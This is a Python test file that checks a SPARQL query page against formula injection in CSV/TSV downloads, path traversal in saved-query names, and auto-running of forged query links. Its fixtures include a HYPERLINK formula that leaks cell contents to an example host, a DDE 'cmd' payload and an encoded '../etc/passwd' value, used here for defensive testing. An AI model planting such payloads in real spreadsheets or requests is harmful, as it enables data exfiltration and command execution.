"""Hardening of the query page: a link only fills the editor, saved-query names are only the
saved queries, and the page's spreadsheet downloads cannot carry formulas (while /sparql's CSV
and TSV stay standard)."""

from __future__ import annotations

import csv
import io
import json
import re
from urllib.parse import quote

import pyoxigraph as ox
import pytest

from scrkg.graph.saved import saved_queries
from scrkg.graph.store import MemoryStore
from scrkg.graph.tables import spreadsheet_cell, spreadsheet_safe

GRAPH = "https://w3id.org/scrkg/id/graph/hostile"
SUBJECT = "https://w3id.org/scrkg/id/review/H1"
LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text", "-5", "+1.5", "a=b"]


def q(text: str) -> str:
    return quote(text, safe="")


@pytest.fixture
def store() -> MemoryStore:
    store = MemoryStore()
    labels = [ox.Literal(text) for text in FORMULAS + HARMLESS]
    store.replace_graph(
        GRAPH, [ox.Triple(ox.NamedNode(SUBJECT), ox.NamedNode(LABEL), label) for label in labels]
    )
    return store


def page_data(html: str) -> dict:
    block = re.search(r'<script type="application/json" id="page-data">(.*?)</script>', html, re.S)
    assert block is not None
    return json.loads(block.group(1))


# -- a link fills the editor; only Run runs it ---------------------------------------------------


def test_a_query_link_does_not_run_the_query_by_itself(client):
    text = "SELECT ?s WHERE { ?s ?p ?o }"
    response = client.get("/query?query=" + q(text))
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert text.replace("<", "&lt;") in html  # the editor holds the link's text
    assert page_data(html)["autorun"] is False
    assert "has not been run" in html and "press Run query" in html


def test_a_query_link_with_a_run_parameter_does_not_run_either(client):
    html = client.get("/query?run=1&autorun=true&query=" + q("ASK {}")).get_data(as_text=True)
    assert page_data(html)["autorun"] is False


def test_a_saved_query_link_fills_the_editor_and_runs(client):
    first = saved_queries()[0]
    html = client.get("/query?name=" + q(first.name)).get_data(as_text=True)
    assert page_data(html)["autorun"] is True
    assert "has not been run" not in html


def test_the_page_script_runs_on_open_only_when_the_page_says_autorun():
    from pathlib import Path

    script = (Path(__file__).resolve().parents[1] / "web" / "static" / "query.js").read_text()
    runs = [line.strip() for line in script.splitlines() if re.search(r"\brun\(\)", line)]
    assert runs == ["if (page.autorun) run();"]


# -- saved-query names are only the saved queries ------------------------------------------------


def test_a_saved_query_name_cannot_read_an_rq_file_elsewhere(client, tmp_path):
    secret = tmp_path / "secret.rq"
    secret.write_text("# title: not a saved query\nSELECT ('SECRET-TEXT' AS ?x) {}\n")
    for name in (str(tmp_path / "secret"), "../../" + str(tmp_path / "secret")):
        response = client.get("/query?name=" + q(name))
        html = response.get_data(as_text=True)
        assert response.status_code == 404
        assert "SECRET-TEXT" not in html
        assert "No saved query named" in html
        assert page_data(html)["autorun"] is False


@pytest.mark.parametrize(
    "raw",
    ["a" * 5000, "%ff%fe%fd", "%c3%28", "%00", "x%00y", "..%2F..%2Fetc%2Fpasswd", "%ed%a0%80"],
    ids=["over-long", "not-utf-8", "bad-utf-8", "nul", "inner-nul", "traversal", "surrogate"],
)
def test_a_saved_query_name_that_is_not_one_gets_404_not_500(client, raw):
    response = client.get("/query?name=" + raw)
    html = response.get_data(as_text=True)
    assert response.status_code == 404
    assert "No saved query named" in html
    assert "open by name: " + saved_queries()[0].name in html
    assert len(html) < 50_000  # an over-long name is shortened in the message


# -- spreadsheet downloads -----------------------------------------------------------------------

SELECT = "SELECT ?label WHERE { ?s rdfs:label ?label } ORDER BY ?label"


def cells(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows[0] == ["label"]
    return [row[0] for row in rows[1:]]


def test_query_page_csv_download_neutralises_spreadsheet_formulas(client):
    html = client.get("/query").get_data(as_text=True)
    assert page_data(html)["downloads"] == "/api/query"
    assert 'href="/api/query?format=csv&amp;query=' in html
    response = client.get("/api/query?format=csv&query=" + q(SELECT))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    found = cells(response.get_data())
    assert sorted(found) == sorted(["'" + text for text in FORMULAS] + HARMLESS)


def test_query_page_tsv_download_neutralises_spreadsheet_formulas(client):
    response = client.get("/api/query?format=tsv&query=" + q(SELECT))
    assert response.status_code == 200
    lines = response.get_data(as_text=True).split("\n")
    assert lines[0] == "?label"
    assert '\'"=HYPERLINK(\\"http://example.org/?leak=\\"&A1,\\"click\\")"' in lines
    assert '\'"@SUM(1,2)"' in lines and '\'"-2+3"' in lines
    assert '"plain text"' in lines and '"-5"' in lines
    assert '"+1.5"' in lines  # a plain number stays a number
    for line in set(lines[1:]) - {'"+1.5"', '"-5"'}:
        assert not line.startswith(('"=', '"+', '"-', '"@', "=", "+", "-", "@")), line


def test_sparql_csv_stays_standard(client):
    response = client.get("/sparql?format=csv&query=" + q(SELECT))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert sorted(cells(response.get_data())) == sorted(FORMULAS + HARMLESS)
    tsv = client.get("/sparql?format=tsv&query=" + q(SELECT)).get_data(as_text=True)
    assert '"@SUM(1,2)"' in tsv.split("\n")


def test_the_other_download_formats_are_unchanged(client):
    for fmt in ("json", "xml"):
        page = client.get(f"/api/query?format={fmt}&query=" + q(SELECT)).get_data()
        sparql = client.get(f"/sparql?format={fmt}&query=" + q(SELECT)).get_data()
        assert page == sparql


def test_spreadsheet_safe_keeps_a_harmless_csv_byte_for_byte():
    body = b'a,b\r\n"x,y","he said ""hi"""\r\n-5,\r\n"two\r\nlines",+1.5e3\r\n'
    assert spreadsheet_safe(body, "text/csv") == body
    assert spreadsheet_safe(b"=1+1", "application/sparql-results+json") == b"=1+1"
    assert spreadsheet_cell("-1") == "-1" and spreadsheet_cell("-1+A1") == "'-1+A1"


def test_a_link_the_site_made_for_its_own_query_runs_and_a_forged_one_does_not(client):
    from scrkg.web.query_page import site_query_link

    text = "SELECT (COUNT(*) AS ?n) { ?s ?p ?o }"
    made = client.get(site_query_link(text)).get_data(as_text=True)
    assert page_data(made)["autorun"] is True
    assert "has not been run" not in made
    other = site_query_link("ASK {}").split("run=")[1]  # a real signature, for another text
    forged = client.get(f"/query?query={q(text + ' ')}&run={other}").get_data(as_text=True)
    assert page_data(forged)["autorun"] is False
    assert "has not been run" in forged


def test_the_dashboard_links_its_charts_to_queries_that_run(client):
    html = client.get("/").get_data(as_text=True)
    links = re.findall(r'href="(/query\?query=[^"]+)"', html)
    assert links, "the dashboard links its charts to their queries"
    for link in links[:3]:
        page = client.get(link.replace("&amp;", "&")).get_data(as_text=True)
        assert page_data(page)["autorun"] is True
